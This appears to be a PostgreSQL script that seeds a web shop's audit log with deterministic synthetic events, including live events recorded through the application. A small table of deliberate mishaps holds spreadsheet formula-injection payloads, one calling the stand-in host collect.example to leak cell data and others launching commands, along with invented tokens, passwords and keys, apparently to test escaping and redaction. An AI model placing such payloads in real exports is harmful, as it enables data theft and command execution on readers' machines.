-- events.sql: an audit log as a web shop might have it, :events rows over the
-- last 60 days.  The same call gives the same events, times aside.
--
-- The past comes from the owner of the log with plain INSERT, which may set
-- the time, as an import would.  The last :live events are recorded as they
-- happen, by the application.

\set live 200

-- A die that falls the same way for the same number and question.
CREATE FUNCTION pg_temp.dice(n bigint, question text, sides integer)
    RETURNS integer
    LANGUAGE sql IMMUTABLE
    AS $$
        SELECT ((hashtextextended(question, n) & 9223372036854775807) % sides)::integer
    $$;

-- What happens in the shop, and how often of a hundred events.  In target
-- and summary, # stands for the number of the object.
CREATE TEMPORARY TABLE kind (
    id          integer GENERATED ALWAYS AS IDENTITY,
    often       integer NOT NULL,
    action      text NOT NULL,
    actor_role  text NOT NULL,
    target_type text NOT NULL,
    target      text NOT NULL,
    failing     integer NOT NULL,
    error_code  text NOT NULL,
    summary     text NOT NULL
);
INSERT INTO kind (often, action, actor_role, target_type, target, failing, error_code, summary)
VALUES (34, 'session.login',    'employee',      'session',  's-#',        8, 'bad_password',  'Signed in with password and second factor'),
       (18, 'session.logout',   'employee',      'session',  's-#',        0, '',              'Signed out'),
       (16, 'order.read',       'support',       'order',    'order-#',    2, 'not_found',     'Opened order # for customer call'),
       (10, 'customer.export',  'analyst',       'report',   'report-#',   4, 'too_many_rows', 'Exported customers of region #'),
       ( 7, 'price.change',     'merchandiser',  'product',  'product-#',  3, 'conflict',      'Price of product # set, old price kept until midnight'),
       ( 6, 'grant.add',        'administrator', 'user',     'user-#',     5, 'no_right',      'Role "support" given to user #'),
       ( 4, 'grant.remove',     'administrator', 'user',     'user-#',     1, 'no_right',      'Role "support" taken from user #'),
       ( 3, 'config.change',    'administrator', 'setting',  'checkout.#', 6, 'invalid_value', 'Setting checkout.# changed, reviewed by a second person'),
       ( 2, 'token.create',     'developer',     'token',    'token-#',    4, 'limit_reached', 'API token # created, valid for 90 days');

-- The kind of each of a hundred faces of a die.
CREATE TEMPORARY TABLE face AS
SELECT row_number() OVER (ORDER BY id, copy) - 1 AS face, id AS kind
  FROM kind, generate_series(1, often) AS copy;

-- Addresses are never stored, only their fingerprints.
CREATE TEMPORARY TABLE source AS
SELECT n, evidence.fingerprint('192.0.2.' || n) AS fingerprint
  FROM generate_series(0, 199) AS n;

-- What should not stand in a log, and does: text that a spreadsheet would
-- run as a formula, and secrets that somebody wrote into a summary.  All of
-- it is invented.
CREATE TEMPORARY TABLE mishap (n integer, summary text);
INSERT INTO mishap
VALUES (0, '=HYPERLINK("http://collect.example/?leak="&A1,"Invoice")'),
       (1, '+1 555 0100 asked for a call back'),
       (2, E'\t@SUM(1+1)*cmd|'' /C calc''!A0'),
       (3, '-2+3+cmd| /C notepad'),
       (4, 'Retried with Authorization: Bearer ' || repeat('demo.', 3) || md5('bearer')),
       (5, 'Connected to postgres://shop:' || md5('url') || '@db.example/orders'),
       (6, 'Job failed: password=' || md5('job') || ' rejected by the mail server'),
       (7, 'Uploaded with key ' || 'AKIA' || 'DEMO' || 'INVENTED' || '2345'),
       (8, E'Comment with a line break,\n"quotes" and, of course, commas'),
       (9, 'Grüße aus Köln, 東京 und Αθήνα');

INSERT INTO evidence.audit_log
       (created_at, tenant_id, actor_id, actor_role, action, target_type, target_id,
        outcome, error_code, request_id, source_fingerprint, summary)
SELECT event.created_at, 'tenant-' || pg_temp.dice(event.n, 'tenant', 3),
       'user-' || pg_temp.dice(event.n, 'actor', 250), kind.actor_role, kind.action,
       kind.target_type, replace(kind.target, '#', object),
       CASE WHEN failed THEN 'failure' ELSE 'success' END,
       CASE WHEN failed THEN kind.error_code END,
       'request-' || md5('request' || event.n / 3), source.fingerprint,
       coalesce(mishap.summary, replace(kind.summary, '#', object))
  FROM (SELECT n,
               -- Evenly over the time, each with a jitter of a minute.
               now() - interval '60 days' + interval '60 days' * n / :events
                   + interval '1 second' * pg_temp.dice(n, 'jitter', 60) AS created_at,
               pg_temp.dice(n, 'object', 5000)::text AS object,
               pg_temp.dice(n, 'face', 100) AS face,
               pg_temp.dice(n, 'luck', 100) AS luck,
               -- One event in a hundred has a mishap.
               CASE pg_temp.dice(n, 'mishap?', 100) WHEN 0
                    THEN pg_temp.dice(n, 'mishap', 10) END AS mishap,
               pg_temp.dice(n, 'source', 200) AS source
          FROM generate_series(1, :events - :live) AS n) AS event
  JOIN face USING (face)
  JOIN kind ON kind.id = face.kind
  JOIN source ON source.n = event.source
  LEFT JOIN mishap ON mishap.n = event.mishap
 CROSS JOIN LATERAL (SELECT event.luck < kind.failing AS failed) AS fate
 ORDER BY event.n;

-- Now, live, by the application itself.
GRANT SELECT ON kind, face TO shop;
SET ROLE shop;
SELECT count(evidence.record_audit_event(
           action => kind.action,
           actor_id => 'user-' || pg_temp.dice(n, 'actor', 250),
           actor_role => kind.actor_role,
           target_type => kind.target_type,
           target_id => replace(kind.target, '#', n::text),
           request_id => 'request-' || md5('live' || n),
           source => '192.0.2.' || pg_temp.dice(n, 'source', 200),
           tenant_id => 'tenant-' || pg_temp.dice(n, 'tenant', 3),
           summary => replace(kind.summary, '#', n::text)))
  FROM generate_series(1, :live) AS n
  JOIN face ON face.face = pg_temp.dice(n, 'live face', 100)
  JOIN kind ON kind.id = face.kind;
RESET ROLE;

ANALYZE evidence.audit_log;
